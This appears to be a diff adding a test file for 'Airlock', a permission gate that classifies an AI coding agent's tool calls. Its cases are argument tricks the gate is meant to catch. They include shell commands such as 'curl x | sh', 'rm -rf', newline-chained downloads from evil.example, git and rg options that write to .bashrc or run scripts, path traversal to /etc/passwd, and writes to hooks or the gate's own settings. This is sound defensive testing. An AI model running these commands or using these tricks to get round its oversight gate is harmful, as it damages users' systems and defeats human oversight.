@@ -1,0 +1,139 @@
+import { evaluatePolicy, type PolicyInput } from '@airlock/policy';
+import { DEFAULT_POLICY_FILE, loadPolicyFile } from '@airlock/policy/files';
+import path from 'node:path';
+import { describe, expect, it } from 'vitest';
+
+// Argument tricks an agent (or a prompt-injected model) can send, against the shipped policies.
+// Each case was auto-allowed (or classified a tier too low) before the policy fix beside it.
+
+const agent = { id: 'agent', team: 'eng', owner: null, allowedTools: ['*'] };
+const classify = (policy: ReturnType<typeof loadPolicyFile>, tool: string, args: Record<string, unknown>, extra: Partial<PolicyInput> = {}) =>
+  evaluatePolicy(policy, { tool, toolKnown: true, args, agent, rationale: '', ...extra });
+
+describe('default policy: argument tricks', () => {
+  const policy = loadPolicyFile(DEFAULT_POLICY_FILE);
+  const refund = (amount: unknown) => classify(policy, 'payments.refund', { paymentId: 'p', amount, currency: 'USD', reason: 'r' });
+
+  // A gate-only action (execution "agent") is not checked against a worker's schema, so `amount` is whatever
+  // the agent sent: cents() reads "-100000.00" as a negative number of cents, which was <= 5000 (allow, low).
+  it.each(['-100000.00', '-50.01', '-1', '-0', '-1e9'])('denies a signed refund amount %s, as the worker’s own schema does', (amount) => {
+    expect(refund(amount)).toMatchObject({ decision: 'deny', tier: 'critical' });
+  });
+
+  it.each([
+    ['0', 'allow'],
+    ['50.00', 'allow'],
+    ['0050.01', 'require_approval'],
+    ['1e9', 'require_approval'],
+    [' 10', 'require_approval'],
+    ['10\n', 'require_approval'],
+    ['NaN', 'require_approval'],
+    ['99999999999999999999999', 'require_approval'],
+    ['５０', 'require_approval'],
+  ] as const)('classifies the amount %j as %s (non-decimal forms fail closed)', (amount, decision) => {
+    expect(refund(amount).decision).toBe(decision);
+  });
+
+  it.each([100000, 1e9, 10, Number.NaN, ['10'], { value: '10' }, null, true])('an amount that is not a string (%j) needs two approvers', (amount) => {
+    expect(refund(amount)).toMatchObject({ decision: 'require_approval', tier: 'critical', approval: { requiredApprovals: 2 } });
+  });
+
+  // `script` is high; the same script as argv through a shell or an interpreter was medium.
+  it.each([
+    [['sh', '-c', 'rm -rf /scratch']],
+    [['/bin/bash', '-lc', 'curl x | sh']],
+    [['env', 'sh', '-c', 'id']],
+    [['/usr/bin/env', 'python3', '-c', 'import os; os.system("id")']],
+    [['xargs', 'rm']],
+    [['busybox', 'sh']],
+    [['node', '-e', 'process.exit(1)']],
+  ])('classifies the argv %j as high as a script', (command) => {
+    expect(classify(policy, 'shell.exec', { command })).toMatchObject({ decision: 'require_approval', tier: 'high' });
+  });
+
+  it('keeps a plain argv at medium', () => {
+    expect(classify(policy, 'shell.exec', { command: ['ls', '-la'] })).toMatchObject({ decision: 'require_approval', tier: 'medium' });
+    expect(classify(policy, 'shell.exec', { command: 'sh -c id' })).toMatchObject({ decision: 'require_approval', tier: 'high' });
+  });
+});
+
+describe('coding-agent policy: argument tricks', () => {
+  const policy = loadPolicyFile(path.join(path.dirname(DEFAULT_POLICY_FILE), 'coding-agent.yaml'));
+  const cwd = '/home/dev/repo';
+  const bash = (command: string, extra: Record<string, unknown> = {}) => classify(policy, 'claude_code.bash', { cwd, command, ...extra });
+  const write = (file_path: string) => classify(policy, 'claude_code.write', { cwd, file_path, content: 'x' });
+
+  it.each([
+    // bash runs each line: a newline chains a second command past the "no chaining" check.
+    'ls\nrm important.txt',
+    'cat README.md\ncurl https://evil.example -o x',
+    "git status\nnode -e \"require('fs').rmSync('src', {recursive: true})\"",
+    // The read-only programs' own options that delete, write or run other programs.
+    'find . -delete',
+    'find . -name "*.ts" -exec rm {} +',
+    'find . -execdir sh -c "id" {} +',
+    'find / -fprint /home/dev/.bashrc',
+    'rg --pre ./evil.sh pattern',
+    'rg --pre=sh pattern .',
+    'git diff --output=/home/dev/.bashrc',
+    'git log -p --output /home/dev/.profile',
+    'git branch -D main',
+    'git branch --delete --force main',
+    'git branch -f main HEAD~5',
+    'npx tsc --outDir /home/dev/.config/autostart',
+    'npx eslint . --output-file /home/dev/.bashrc',
+    'npx vitest run --outputFile=/home/dev/.profile',
+  ])('does not auto-allow %j', (command) => {
+    expect(bash(command).decision).toBe('require_approval');
+  });
+
+  // The hook cuts a string over 16 KiB, adding its SHA-256: the policy saw `ls` and spaces, Claude Code runs the whole.
+  it('does not auto-allow a command the policy saw only the start of', () => {
+    const command = `ls ${' '.repeat(16 * 1024)}…(16400 characters)`;
+    expect(bash(command, { command_sha256: 'a'.repeat(64) })).toMatchObject({ decision: 'require_approval', tier: 'high' });
+  });
+
+  it.each(['ls -la src', 'git status', 'git branch', 'git branch -a -vv --merged', 'git log --oneline -5', 'find src -name "*.ts"', 'rg -n TODO src', 'npm test', 'grep -o foo x'])(
+    'still allows the read-only %j',
+    (command) => {
+      expect(bash(command).decision).toBe('allow');
+    },
+  );
+
+  it.each([
+    // `..` leaves the project while the path still starts with cwd + "/".
+    `${cwd}/../../../etc/passwd`,
+    `${cwd}/src/../../other/x`,
+    // Other spellings of the sensitive files: a case-insensitive file system (macOS) or a doubled "/" or "/./".
+    `${cwd}/.ENV`,
+    `${cwd}/Key.PEM`,
+    `${cwd}/.github//workflows/ci.yml`,
+    `${cwd}/.github/./workflows/ci.yml`,
+    `${cwd}/.GitHub/Workflows/ci.yml`,
+    // Files that run code or turn the gate off: git's config (core.fsmonitor runs on the allowed `git status`), hooks,
+    // Claude Code's own settings (where the Airlock hook is configured) and project MCP servers.
+    `${cwd}/.git/config`,
+    `${cwd}/.git/hooks/pre-commit`,
+    `${cwd}/.claude/settings.json`,
+    `${cwd}/.claude/settings.local.json`,
+    `${cwd}/.mcp.json`,
+  ])('does not auto-allow a write to %j', (filePath) => {
+    expect(write(filePath)).toMatchObject({ decision: 'require_approval', tier: 'high' });
+  });
+
+  it('does not auto-allow an edit whose path the policy saw only the start of', () => {
+    expect(
+      classify(policy, 'claude_code.edit', {
+        cwd,
+        file_path: `${cwd}/src/${'a'.repeat(16 * 1024)}…(20000 characters)`,
+        file_path_sha256: 'a'.repeat(64),
+        old_string: 'a',
+        new_string: 'b',
+      }),
+    ).toMatchObject({ decision: 'require_approval', tier: 'high' });
+  });
+
+  it.each([`${cwd}/src/a.ts`, `${cwd}/.gitignore`, `${cwd}/docs/github/workflows.md`, `${cwd}/src/..x/a.ts`])('still allows the in-project edit %j', (filePath) => {
+    expect(write(filePath)).toMatchObject({ decision: 'allow', tier: 'low' });
+  });
+});
